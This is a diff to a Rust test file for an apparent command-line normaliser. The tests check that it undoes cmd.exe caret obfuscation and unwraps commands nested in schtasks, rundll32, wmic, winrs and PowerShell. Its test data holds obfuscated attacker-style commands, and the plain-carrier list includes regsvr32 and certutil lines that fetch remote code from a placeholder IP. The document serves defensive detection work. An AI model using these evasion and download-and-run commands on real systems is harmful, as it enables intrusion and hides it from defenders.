@@ -26,10 +26,11 @@ fn check(rows: &[Row]) {
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
+const CARETS: &str = "Carets of cmd.exe";
+
 /// The argument loses its quotes by the C runtime's rules (`\"` is a quote), then `cmd.exe` reads.
 #[test]
 fn lines_for_cmd_are_unwrapped() {
-    const CARETS: &str = "Carets of cmd.exe";
     let rows: &[Row] = &[
         (
             "schtasks /create /tn x /tr \"cmd /c w^hoami\" /sc minute",
@@ -83,6 +84,35 @@ fn lines_for_cmd_are_unwrapped() {
             "winrs -r:192.0.2.7 cmd /c w^hoami",
             &[("WinRS command", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
         ),
+    ];
+    check(rows);
+    // Beside other commands the line inside is replaced in its place.
+    let rows: &[Row] = &[(
+        "cmd /c schtasks /create /tn x /tr \"cmd /c w^hoami\" & schtasks /run /tn x",
+        &[(
+            "Scheduled task action",
+            "cmd /c schtasks /create /tn x /tr \"cmd /c whoami\" & schtasks /run /tn x",
+        )],
+    )];
+    check(rows);
+}
+
+#[test]
+fn lines_inside_each_other_and_inside_powershell() {
+    let rows: &[Row] = &[
+        (
+            "rundll32.exe shell32.dll,ShellExec_RunDLL cmd /c w^hoami",
+            &[("rundll32 command", "cmd /c w^hoami"), (CARETS, "cmd /c whoami")],
+        ),
+        // In PowerShell text the line of cmd.exe is undone in its place.
+        ("powershell -c cmd /c w^hoami; dir", &[(CARETS, "powershell -c cmd /c whoami; dir")]),
+        (
+            "powershell -nop -c \"gci; cmd.exe /c 'set x=whoami&& call %x%'\"",
+            &[(
+                "Variables set on the line of cmd.exe",
+                "powershell -nop -c \"gci; cmd.exe /c 'whoami'\"",
+            )],
+        ),
         // One carrier in the other; the outer cmd.exe has read its own carets before.
         (
             "cmd /c \"wmic process call create \"cmd /v:on /c set x=whoami&!x!\"\"",
@@ -99,15 +129,6 @@ fn lines_for_cmd_are_unwrapped() {
             ],
         ),
     ];
-    check(rows);
-    // Beside other commands the line inside is replaced in its place.
-    let rows: &[Row] = &[(
-        "cmd /c schtasks /create /tn x /tr \"cmd /c w^hoami\" & schtasks /run /tn x",
-        &[(
-            "Scheduled task action",
-            "cmd /c schtasks /create /tn x /tr \"cmd /c whoami\" & schtasks /run /tn x",
-        )],
-    )];
     check(rows);
 }
 
@@ -202,6 +223,9 @@ fn plain_carriers_stay_as_they_are() {
         "rundll32 shell32.dll,Control_RunDLL",
         "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
         "certutil -urlcache -f http://192.0.2.1/a a",
+        "powershell -c cmd /c dir; $x -match '^abc'",
+        "powershell -c cmd /c ver | where { $_ -match '^abc' }",
+        "powershell -c sc a.txt '^x'",
         "C:\\reg\\sc\\wmic.exe",
         "reg",
     ];
